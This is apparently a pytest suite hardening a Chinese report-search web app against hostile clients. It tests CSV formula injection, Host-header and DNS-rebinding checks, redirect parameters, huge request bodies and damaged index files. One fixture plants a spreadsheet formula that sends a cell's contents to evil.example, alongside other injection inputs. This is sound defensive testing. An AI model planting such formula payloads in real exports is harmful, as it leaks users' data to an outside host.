"""The web layer against a hostile client: links and redirects, formula cells, huge bodies, ids of any name."""

from __future__ import annotations

import csv
import io
import os
import socket
import threading
import time
from pathlib import Path

import pytest

from web import create_app

RESERVED = ("_external=1", "_anchor=x", "_scheme=javascript", "_method=POST", "endpoint=x", "doc_id=zzz", "chunk_id=y")


def _report(town: str, first_line: str = "") -> str:
    return (
        f"{first_line}{town}2024年法治政府建设年度报告\n一、主要成效\n{town}推进法律援助，开展普法宣传。\n"
        f"二、存在问题\n基层法治力量薄弱。\n"
    )


@pytest.fixture(scope="module")
def seeds_app(tmp_path_factory: pytest.TempPathFactory):
    """The web app over the bundled seeds, built with the hashing fake embedder."""
    from conftest import SEEDS

    from kb.build import build
    from kb.embed import HashEmbedder

    index = tmp_path_factory.mktemp("seeds-index")
    assert build(SEEDS, index, HashEmbedder(), progress=False).documents == 5
    # evil.example is trusted here, as a name behind a proxy would be, so that the links it gets are seen (S3);
    # any other name is refused before a route runs (S4)
    app = create_app({"index": index, "model": "fake", "trusted_hosts": ("evil.example",)})
    app.config.update(TESTING=True)
    yield app
    app.extensions["kb"].close()


@pytest.fixture()
def fake_client(seeds_app):
    return seeds_app.test_client()


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory: pytest.TempPathFactory):
    """An index of reports with Chinese names (two of them sharing an old-style id) and a formula first line."""
    from kb.build import build
    from kb.embed import HashEmbedder

    seeds = tmp_path_factory.mktemp("hostile-seeds")
    index = tmp_path_factory.mktemp("hostile-index")
    (seeds / "东升镇2025年法治政府建设年度报告.txt").write_text(_report("东升镇"), encoding="utf-8")
    (seeds / "南头镇2025年法治政府建设年度报告.txt").write_text(_report("南头镇"), encoding="utf-8")
    (seeds / "东湖镇2024报告.txt").write_text(
        _report("东湖镇", '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")\n'), encoding="utf-8"
    )
    (seeds / "-dash.txt").write_text(_report("西湖镇", "@SUM(1+1)\n"), encoding="utf-8")
    assert build(seeds, index, HashEmbedder(), progress=False).documents == 4
    app = create_app({"index": index, "model": "fake"})
    app.config.update(TESTING=True)
    yield app
    app.extensions["kb"].close()


@pytest.mark.parametrize("extra", RESERVED)
def test_reserved_url_for_names_in_the_query_neither_crash_nor_leave_the_site(fake_client, extra: str) -> None:
    docs = fake_client.get("/api/docs").get_json()
    chunk = fake_client.get("/api/search?q=行政复议&k=1").get_json()["results"][0]["chunk_id"]
    prefix = docs[0]["doc_id"][:3]
    for url in (f"/doc/{prefix}?{extra}", f"/?q=行政复议&{extra}", f"/?q=行政&locality=阜沙镇&{extra}",
                f"/similar/{chunk}?{extra}", f"/compare?q=行政复议&{extra}"):
        resp = fake_client.get(url, headers={"Host": "evil.example"})
        assert resp.status_code < 500, (url, resp.status_code)
        assert "evil.example" not in resp.headers.get("Location", ""), url
        assert "evil.example" not in resp.get_data(as_text=True), url
        assert "#x" not in resp.headers.get("Location", "") and "javascript:" not in resp.get_data(as_text=True)


def test_known_parameters_still_carry_over_a_redirect(fake_client) -> None:
    doc_id = fake_client.get("/api/docs").get_json()[0]["doc_id"]
    resp = fake_client.get(f"/doc/{doc_id[:3]}?hl=0-5")
    assert resp.status_code == 302 and resp.headers["Location"].endswith(f"/doc/{doc_id}?hl=0-5")


def test_csv_cells_that_start_like_formulas_are_inert(hostile_app) -> None:
    client = hostile_app.test_client()
    # each town's every returned passage (a locality filter exports them all, not only the ones its card shows)
    for town in ("东湖镇", "西湖镇"):
        q = f"{town} 法律援助"
        body = client.get("/export.csv", query_string={"q": q, "k": 20, "locality": town}).get_data(as_text=True)
        rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
        assert len(rows) > 1
        cells = [c for r in rows for c in r]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], q
    assert any(c.startswith("'=HYPERLINK") for c in cells) or any(c.startswith("'@SUM") for c in cells)


def test_every_report_of_any_file_name_is_reachable(hostile_app) -> None:
    client = hostile_app.test_client()
    docs = client.get("/api/docs").get_json()
    page = client.get("/docs").get_data(as_text=True)
    assert len(docs) == 4 and len({d["doc_id"] for d in docs}) == 4
    for d in docs:
        assert f'href="/doc/{d["doc_id"]}"' in page
        for url in (f"/doc/{d['doc_id']}", f"/doc/{d['doc_id']}/raw", f"/api/docs/{d['doc_id']}"):
            assert client.get(url).status_code == 200, url


def test_an_old_id_resolves_when_it_names_one_report_and_lists_the_candidates_otherwise(hostile_app) -> None:
    from kb.ids import legacy_doc_id

    client = hostile_app.test_client()
    docs = {d["source"]: d["doc_id"] for d in client.get("/api/docs").get_json()}
    resp = client.get(f"/doc/{legacy_doc_id('东湖镇2024报告.txt')}")
    assert resp.status_code == 302 and resp.headers["Location"].endswith(f"/doc/{docs['东湖镇2024报告.txt']}")
    shared = legacy_doc_id("东升镇2025年法治政府建设年度报告.txt")
    assert shared == legacy_doc_id("南头镇2025年法治政府建设年度报告.txt")
    resp = client.get(f"/api/docs/{shared}")
    assert resp.status_code == 404
    message = resp.get_json()["error"]["message"]
    assert docs["东升镇2025年法治政府建设年度报告.txt"] in message and docs["南头镇2025年法治政府建设年度报告.txt"] in message


def test_nfkc_expansion_cannot_pass_the_query_length_limit(fake_client) -> None:
    resp = fake_client.get("/api/search", query_string={"q": "\ufdfa" * 500})
    assert resp.status_code == 400 and "normalized" in resp.get_json()["error"]["message"]


def test_waitress_refuses_a_huge_body_before_reading_it(monkeypatch: pytest.MonkeyPatch, seeds_app) -> None:
    import waitress

    try:
        from web import serve as serve_mod
    except ImportError:  # where it lived before web/serve.py
        from kb import serve as serve_mod  # type: ignore[no-redef]

    fake_app = seeds_app
    made: list[object] = []

    def capture(app, **kw):
        kw["port"] = 0
        server = waitress.create_server(app, **kw)
        made.append(server)
        monkeypatch.setattr(server, "run", lambda: (_ for _ in ()).throw(KeyboardInterrupt()))
        return server

    monkeypatch.setattr(serve_mod, "create_server", capture)
    monkeypatch.setattr(serve_mod, "open_searcher", lambda index, emb: fake_app.extensions["kb"].searcher)
    monkeypatch.setattr(serve_mod, "create_app", lambda settings: fake_app)
    assert serve_mod.serve(Path("/nonexistent-seeds"), Path("/nonexistent-index"), None) == 0  # type: ignore[arg-type]
    kw = made[0].adj  # type: ignore[attr-defined]
    server = waitress.create_server(fake_app, host="127.0.0.1", port=0, max_request_body_size=kw.max_request_body_size)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        with socket.create_connection(("127.0.0.1", server.effective_port), timeout=10) as s:  # type: ignore[union-attr]
            s.sendall(b"POST /api/health HTTP/1.1\r\nHost: x\r\nContent-Length: 1048576000\r\n\r\n" + b"x" * 65536)
            t0 = time.monotonic()
            answer = s.recv(200)
        assert answer.startswith(b"HTTP/1.1 413") and time.monotonic() - t0 < 5, answer
    finally:
        server.close()
        thread.join(5)


def test_files_damaged_under_a_live_server_neither_kill_it_nor_pass_health(tmp_path: Path) -> None:
    from conftest import SEEDS

    from kb.build import build
    from kb.embed import HashEmbedder

    index = tmp_path / "index"
    build(SEEDS, index, HashEmbedder(), progress=False)
    app = create_app({"index": index, "model": "fake"})
    try:
        client = app.test_client()
        assert client.get("/api/health").status_code == 200
        version = index / (index / "CURRENT").read_text().strip()
        for p in (version / "bm25").glob("*.npy"):
            os.truncate(p, 128)  # in place: a mapped array would now raise SIGBUS on its next read
        assert client.get("/api/search", query_string={"q": "行政复议"}).status_code == 200
        os.truncate(version / "kb.sqlite", 4096)
        resp = client.get("/api/health")
        assert resp.status_code == 503 and "damaged" in resp.get_json()["error"]["message"]
    finally:
        app.extensions["kb"].close()


@pytest.mark.parametrize("url", ["/", "/?q=行政复议", "/docs", "/api/openapi.json", "/api/search?q=行政复议", "/api/health"])
def test_a_host_name_the_server_does_not_know_gets_400_and_nothing_of_the_site(fake_client, url: str) -> None:
    # a DNS-rebinding page: the attacker's own name resolving to this server's address
    resp = fake_client.get(url, headers={"Host": "attacker.example:8000"})
    body = resp.get_data(as_text=True)
    assert resp.status_code == 400 and "attacker.example" not in body and "--trusted-host" in body
    if url.startswith("/api/"):
        assert resp.get_json() == {"error": {"status": 400, "code": "untrusted_host", "message": resp.get_json()["error"]["message"]}}
    else:  # the ordinary error page, rendered in full
        assert resp.mimetype == "text/html" and "</html>" in body and "服务器不接受" in body


@pytest.mark.parametrize("host", ["localhost", "localhost:8000", "LOCALHOST.", "kb.localhost:5000", "127.0.0.1:8000",
                                  "[::1]:8000", "192.168.1.5:8000", "evil.example", "EVIL.example:8080"])
def test_loopback_names_ip_addresses_and_trusted_names_are_answered(fake_client, host: str) -> None:
    resp = fake_client.get("/api/openapi.json", headers={"Host": host})
    assert resp.status_code == 200, host
    assert resp.get_json()["servers"][0]["url"] == f"http://{host.lower()}"  # only ever a name it answers to


def test_the_trusted_names_of_kb_serve(monkeypatch: pytest.MonkeyPatch) -> None:
    from kb.cli import build_parser
    from web.hosts import is_trusted, trusted_hosts

    monkeypatch.setenv("KB_TRUSTED_HOSTS", "kb.intranet, Search.Example")
    assert trusted_hosts("kb-box", ["extra.example"]) == ("kb-box", "kb.intranet", "search.example", "extra.example")
    monkeypatch.setattr("socket.gethostname", lambda: "officepc")
    assert "officepc" in trusted_hosts("0.0.0.0")  # bound to every address: the machine's own name too
    assert not is_trusted("kb.intranet.evil.example", trusted_hosts("127.0.0.1"))
    assert is_trusted("anything.example", ("*",)) and is_trusted(None, ())
    args = build_parser().parse_args(["serve", "--trusted-host", "a.example", "--trusted-host", "b.example"])
    assert args.trusted_host == ["a.example", "b.example"]


def test_compare_takes_three_topics_of_the_longest_length(fake_client) -> None:
    from kb.search import MAX_QUERY_CHARS
    from web.errors import MAX_QUERY_STRING
    from web.pages import MAX_TOPICS

    # the longest characters there are: 4 UTF-8 bytes each, 12 once percent-encoded
    topics = ["行政复议" * (MAX_QUERY_CHARS // 4), "法律援助" * (MAX_QUERY_CHARS // 4), "\U00020000" * MAX_QUERY_CHARS]
    resp = fake_client.get("/compare", query_string=[("q", t) for t in topics] + [("locality", "阜沙镇"), ("k", "10")])
    assert resp.status_code == 200 and resp.get_data(as_text=True).count("行政复议" * 20) >= 1
    assert len(resp.request.query_string) > 8192 and MAX_QUERY_STRING >= MAX_TOPICS * MAX_QUERY_CHARS * 12 + 2048
    too_long = fake_client.get("/compare?" + "q=x&" * 7000)
    assert too_long.status_code == 414 and f"the limit is {MAX_QUERY_STRING}" in too_long.get_data(as_text=True)


MAPPED_TRUNCATION = """
import os, sys
from pathlib import Path
import kb.store.bm25 as bm25
from web import create_app
bm25.MMAP_MIN_BYTES = 0  # map the seeds' small arrays as a corpus past 64 MB has them mapped
index = Path(sys.argv[1])
app = create_app({"index": index, "model": "fake"})
client = app.test_client()
assert client.get("/api/search", query_string={"q": "行政复议", "mode": "bm25"}).get_json()["results"]
version = index / (index / "CURRENT").read_text().strip()
for p in (version / "bm25").glob("*.npy"):
    os.truncate(p, 128)  # in place: reading the mapping's lost pages is SIGBUS
for mode in ("bm25", "hybrid"):
    print(mode, client.get("/api/search", query_string={"q": "行政复议", "mode": mode}).status_code, flush=True)
print("health", client.get("/api/health").status_code)
app.extensions["kb"].close()
"""


def test_mapped_bm25_files_truncated_under_a_live_server_do_not_kill_it(tmp_path: Path) -> None:
    import subprocess
    import sys

    from conftest import ROOT, SEEDS

    from kb.build import build
    from kb.embed import HashEmbedder

    build(SEEDS, tmp_path / "index", HashEmbedder(), progress=False)
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    # a process of its own: on a mapping, the old code died of SIGBUS (exit -7), which would take pytest along
    proc = subprocess.run([sys.executable, "-c", MAPPED_TRUNCATION, str(tmp_path / "index")], capture_output=True,
                          text=True, env=env, timeout=120, cwd=ROOT)
    assert proc.returncode == 0, (proc.returncode, proc.stderr[-2000:])
    assert proc.stdout.split() == ["bm25", "200", "hybrid", "200", "health", "503"], proc.stdout
    assert "truncated from" in proc.stderr and "BM25 is off" in proc.stderr
